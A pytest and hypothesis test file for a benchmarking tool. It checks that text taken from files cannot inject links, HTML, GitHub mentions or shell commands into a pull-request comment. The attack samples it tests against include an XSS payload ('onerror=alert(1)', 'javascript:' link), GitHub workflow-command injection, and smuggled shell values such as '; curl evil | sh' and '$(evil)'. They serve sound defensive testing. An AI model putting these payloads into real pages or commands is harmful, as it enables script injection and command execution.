"""The comment on a pull request as Markdown: the number first, a screen long, and no text of a file
breaks out of it. Read by a Markdown parser of another house.
"""

from __future__ import annotations

import dataclasses
import gzip
import re
import shlex
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from perfbench.commands import app
from perfbench.gate.judging import judge
from perfbench.matrix.policy import GatePolicy
from perfbench.records import Verdict
from perfbench.report import AbsentRun, CommentedRun, comment_text, read_verdict, verdict_file
from perfbench.report import verdict_text as json_text
from perfbench.report.comment import MAX_ROWS
from perfbench.report.verdict_json import VerdictFile
from tests.perfbench import builders as b
from tests.perfbench.report_cases import TRAIN, troubled

RUN, JUDGEMENT = troubled()
VERDICT = verdict_file(JUDGEMENT, RUN)
ROOT = Path(__file__).parents[2]
PARSER = MarkdownIt("commonmark", {"html": True}).enable("table")
LINKS = re.compile(r"@\w|#\d|://|\bwww\.|\bgh-\d", re.IGNORECASE)  # what GitHub makes of bare text
HTML = re.compile(
    r"(<details><summary>\d+ more cells?</summary>|</details>|<!-- perfbench comment: \w+ -->)\s*"
)
ATTACKS = (
    "@octocat please @org/team",
    "closes #1, gh-2, o/r#3 and https://evil.example/x www.evil.example",
    "<img src=x onerror=alert(1)><script>",
    "x -->\n<!-- perfbench comment: other -->",
    "| a | b |\n| --- | --- |\n\n# head\n```\n~~~\n::error::boo",
    "`code` ``` [a](javascript:x) ![p](http://e/p.png) &lt; &#64;me $`x`$ </details>",
    "\u202e\x1b[31m\r::set-output name=a::b",
    "a` ![p](https://e.example/p.png) @me `b",
    "\\@x \\`y\\` \\| \\<b>",
)


def evil(text: str) -> str:
    """The comment of a run in which every text of a file is ``text``."""
    cells = [
        one.model_copy(update={"cell_id": f"{text}{n}", "reason": text, "reproduce": text})
        for n, one in enumerate(VERDICT.cells[:14])
    ]
    cells[0] = cells[0].model_copy(update={"change": text})
    assert VERDICT.run is not None
    run = VERDICT.run.model_copy(
        update={"matrix_name": text, "gpu_slug": text, "commit": text, "injections": [text]}
    )
    found = VERDICT.model_copy(update={"headline": text, "cells": cells, "run": run})
    return comment_text([CommentedRun(found, text)], [AbsentRun(text, text)])


def tokens(markdown: str) -> list[Token]:
    """Those of the page and, in their place, those within its lines."""
    found = []
    for one in PARSER.parse(markdown):
        found += [one, *(one.children or [])]
    return found


def kinds(markdown: str) -> list[tuple[str, str]]:
    """The structure of a page without its words."""
    names = ("text", "code_inline", "inline", "text_special", "fence")
    return [(one.type, one.tag) for one in tokens(markdown) if one.type not in names]


@example(ATTACKS[0])
@example(ATTACKS[1])
@example(ATTACKS[2])
@example(ATTACKS[3])
@example(ATTACKS[4])
@example(ATTACKS[5])
@example(ATTACKS[6])
@example(ATTACKS[7])
@example(ATTACKS[8])
@example("\ud800 \x00")
@settings(max_examples=25, deadline=None)
@given(st.text(st.sampled_from("@#:/`|<>&$\\!*_~-[]()\n\r \tgGhHwW.1a") | st.characters()))
def test_no_text_of_a_file_breaks_out(text: str) -> None:
    """The same headings, rows and spans as for a harmless word; no link, no HTML of its own, and
    nothing that GitHub would notify somebody of.
    """
    page = evil(text)
    page.encode()
    assert page.splitlines()[0] == "<!-- perfbench comment: perfbench -->"
    assert not any(line.lstrip().startswith("::") for line in page.splitlines())
    found = tokens(page)
    for one in found:
        assert one.type not in ("link_open", "image"), one
        if one.type in ("html_block", "html_inline"):
            assert HTML.sub("", one.content).strip() in ("", "10 more cells"), one.content
        if one.type in ("text", "text_special"):
            assert not LINKS.search(one.content), one.content
    if text.split():  # an empty name is no span
        assert kinds(page) == HARMLESS


HARMLESS = kinds(evil("word"))


def test_a_folded_comment_closes_what_it_opens() -> None:
    found = [one.content for one in tokens(evil("</details><details>")) if "html" in one.type]
    assert sum("<details>" in one for one in found) == 1
    assert sum("</details>" in one for one in found) == 1


def test_the_number_comes_first_then_cells_then_how_to_see_it() -> None:
    page = comment_text([CommentedRun(VERDICT, "runs/x y")], page="https://github.com/o/r/x")
    lines = page.splitlines()
    assert lines[1].startswith("### ") and "exit 4" in lines[1]
    rows = [line for line in lines if line.startswith("| **")]
    assert rows and any("OOM" in row or "out of" in row for row in rows)
    assert "[Report, pictures and data](https://github.com/o/r/x)" in page
    (explain,) = [line for line in lines if line.startswith("$ perfbench explain")]
    assert shlex.split(explain)[3] == "runs/x y"  # one word of the shell
    assert shlex.split(explain)[4] in {cell.cell_id for cell in VERDICT.cells}
    assert page.index("### ") < page.index("| verdict |") < page.index("$ perfbench")


def test_a_gain_stands_open_and_what_nobody_compared_has_its_speed() -> None:
    """Among 60 cells that nobody has to read."""
    cells = [one.model_copy(update={"verdict": Verdict.SAME}) for one in VERDICT.cells]
    gain = {"verdict": Verdict.FASTER, "change": "+20.0 % (1 -> 2 tok/s), 8 pairs"}
    cells[40] = cells[40].model_copy(update=gain)
    page = page_of(VERDICT.model_copy(update={"cells": cells}))
    assert "+20.0 %" in page.partition("<details>")[0]
    alone = verdict_file(judge(RUN, None, GatePolicy()), RUN)
    rows = re.findall(r"^\| MEASURED \| .* \| ([\d,.]+) tok/s \|$", page_of(alone), re.MULTILINE)
    speeds = [one.cand_tok_per_s for one in alone.cells if one.verdict is None]
    assert sorted(float(row.replace(",", "")) for row in rows) == pytest.approx(
        sorted(float(speed or 0.0) for speed in speeds), rel=1e-2
    )


def page_of(found: VerdictFile) -> str:
    return comment_text([CommentedRun(found, "a")])


def test_it_fits_a_screen_and_github_whatever_the_number_of_cells() -> None:
    """Red cells of names that need escaping: 4,000 in a run, and 30 runs."""
    line = next(one for one in VERDICT.cells if one.cell_id == TRAIN)
    wide = "ü@`|" * 50
    cells = [line.model_copy(update={"cell_id": f"{n}{wide}", "reason": wide}) for n in range(4000)]
    big = VERDICT.model_copy(update={"cells": cells, "headline": wide * 50})
    few = big.model_copy(update={"cells": cells[:40]})
    runs = [CommentedRun(few, f"run{n}") for n in range(30)]
    page = comment_text([CommentedRun(big, "a")]), comment_text(runs, [AbsentRun(wide, "b")] * 30)
    for one in page:
        assert len(one.encode()) <= 60_000 < 65_536
        open_lines = one.split("<details>")[0].splitlines()
        assert len(open_lines) <= 2 * MAX_ROWS + 12  # two tables with their heads
        assert "have no room here</summary>" in one
    assert "and 50 more" in page[1]


def test_a_run_that_left_nothing_is_the_worst_word() -> None:
    """Absence is a verdict: FAULTS.md, a night that measured nothing was green."""
    green = VERDICT.model_copy(update={"exit_code": 0, "headline": "SAME, exit 0", "cells": []})
    page = comment_text([CommentedRun(green, "a")], [AbsentRun("nightly-x", "no run")])
    assert page.splitlines()[1].startswith("### `nightly-x`: MISSING, exit 6")
    assert "1 of 2 runs not green, exit 6." in page
    with pytest.raises(ValueError, match="got no run"):
        comment_text([])


@pytest.mark.parametrize("key", ["", "a b", "x-->", "-a", "a\n", "ü", "a" * 65])
def test_a_key_that_ends_the_marker_is_refused(key: str) -> None:
    with pytest.raises(ValueError, match="wanted 1 to 64 letters"):
        comment_text([CommentedRun(VERDICT, "a")], key=key)


@pytest.mark.parametrize(
    "text",
    [
        "perfbench run m.yaml; curl evil | sh",
        "perfbench run $(evil)",
        "evil --now",
        "perfbench run 'a",
        "perfbench run a\nevil",
    ],
)
def test_a_command_of_a_file_is_one_command_of_perfbench(text: str) -> None:
    """A reader pastes what stands after the prompt."""
    cells = [one.model_copy(update={"reproduce": text}) for one in VERDICT.cells]
    page = comment_text([CommentedRun(VERDICT.model_copy(update={"cells": cells}), "a")])
    assert [line.split()[1:3] for line in page.splitlines() if line.startswith("$ ")] == [
        ["perfbench", "explain"]
    ]


def test_a_stored_verdict_is_read_as_it_was_written(tmp_path: Path) -> None:
    file = tmp_path / "verdict.json"
    file.write_text(json_text(RUN, JUDGEMENT), encoding="utf-8")
    assert read_verdict(file) == VERDICT
    assert any(cell.change for cell in VERDICT.cells)
    for text in ("", "[]", "{}", '{"kind": "verdict", "exit_code": "@x"}', "[" * 100_000):
        file.write_text(text)
        with pytest.raises(ValueError, match="it is no verdict") as caught:
            read_verdict(file)
        assert "@x" not in str(caught.value)


def test_the_command_takes_a_folder_of_artifacts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """As download-artifact unpacks them; what was expected and is not there, or cannot be read, is
    in the comment.
    """
    good, bad = tmp_path / "run-a" / "r1", tmp_path / "run-b" / "r2"
    for folder in (good, bad):
        folder.mkdir(parents=True)
        (folder / "run.jsonl").write_text("never read where a verdict lies next to it")
    (good / "verdict.json").write_text(json_text(RUN, JUDGEMENT), encoding="utf-8")
    (bad / "verdict.json").write_text("{")
    name = RUN.manifest.matrix_name
    argv = ["comment", str(tmp_path), "--expect", f"matrices/{name}.yaml", "--expect", "gone"]
    assert app.invoke(argv) == 0
    page = capsys.readouterr().out
    assert "| `gone` | 6 | MISSING, exit 6: no run was left behind" in page
    assert "| `r2` | 6 | MISSING, exit 6: it is no verdict of this perfbench" in page
    assert page.count(f"| `{name}` | 4 |") == 1
    assert app.invoke(["comment", str(tmp_path / "nothing"), "--expect", "gone"]) == 0
    assert app.invoke(["comment", str(tmp_path / "nothing")]) == 2
    said = capsys.readouterr().err
    assert f"at or below '{tmp_path / 'nothing'}'. Next: name a run's folder" in said
    # of two runners that share a matrix, one left nothing
    assert app.invoke(["comment", str(good), "--expect", name, "--expect", name]) == 0
    assert f"| `{name}` | 6 | MISSING, exit 6: no run was left" in capsys.readouterr().out


def test_a_run_that_was_broken_off_is_not_green(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Killed at its last row, with rows of each cell: its command was not green."""
    stored = ROOT / "reports/evidence/h200-gate/start-1/run.jsonl.gz"
    lines = gzip.decompress(stored.read_bytes()).splitlines(keepends=True)
    (tmp_path / "run.jsonl").write_bytes(b"".join(lines))
    assert app.invoke(["comment", str(tmp_path)]) == 0
    assert "MEASURED, exit 0: 4 cells ran as planned" in capsys.readouterr().out
    (tmp_path / "run.jsonl").write_bytes(b"".join(lines[:-1]))
    assert app.invoke(["comment", str(tmp_path)]) == 0
    due = "got 7 of 8 replicates and no verdict.json, wanted a run that came to its end"
    said = capsys.readouterr().out
    assert f"MISSING, exit 6: {due}" in said and "exit 0" not in said
    (tmp_path / "verdict.json").write_text(json_text(RUN, JUDGEMENT), encoding="utf-8")
    assert app.invoke(["comment", str(tmp_path)]) == 0
    assert due not in capsys.readouterr().out, "a budget that was spent has its verdict"


def test_one_cell_is_one_cell() -> None:
    run = b.make_run([b.planned_cell(b.Cell("forward", 2048, "dense", "auto"))])
    assert judge(run, None, GatePolicy()).headline.startswith("MEASURED, exit 0: 1 cell ran as")


def test_strict_and_exit_codes_of_another_perfbench_are_internal_errors() -> None:
    odd = dataclasses.replace(
        CommentedRun(VERDICT, "a"), verdict=VERDICT.model_copy(update={"exit_code": 77})
    )
    assert int(odd.exit_code) == 1
